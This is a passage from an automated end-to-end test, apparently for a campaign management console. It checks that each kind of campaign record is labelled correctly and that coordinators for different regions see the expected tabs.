      defined: await launch('coord.changxing', { programme: definedId, year: await year(), jurisdictionId: '330522' }),
    };
    // Every campaign record names its kind, a list row too (it has no definition).
    for (const [kind, id] of Object.entries(ids)) {
      const user = kind === 'application' ? 'coord.zhoushan' : kind === 'register' ? 'coord.lijiang' : 'coord.changxing';
      expect((await get(user, `/campaigns?${q({ id })}`)).body[0]?.kind).toBe(kind);
    }
    const expected = {
      staged_award: ['', 'enrolment', 'inspection', 'evaluation', 'award', 'rosters'],
      application: ['', 'applications', 'cultivation'],
      register: ['', 'intake'],
      defined: ['', 'enrolment', 'roster'],
    };
    const changxingPage = await signIn('coord.changxing');
    expect(await campaignTabs(changxingPage, ids.staged_award)).toEqual(expected.staged_award);
    expect(await campaignTabs(changxingPage, ids.defined)).toEqual(expected.defined);
    await changxingPage.close();
    const zhoushanPage = await signIn('coord.zhoushan');
    expect(await campaignTabs(zhoushanPage, ids.application)).toEqual(expected.application);
    await zhoushanPage.screenshot({ path: `${ARTIFACTS}/console-campaign-tabs-zhoushan.png`, fullPage: true });
    await zhoushanPage.close();
    const lijiangPage = await signIn('coord.lijiang');
    expect(await campaignTabs(lijiangPage, ids.register)).toEqual(expected.register);
    await lijiangPage.close();
  });
});
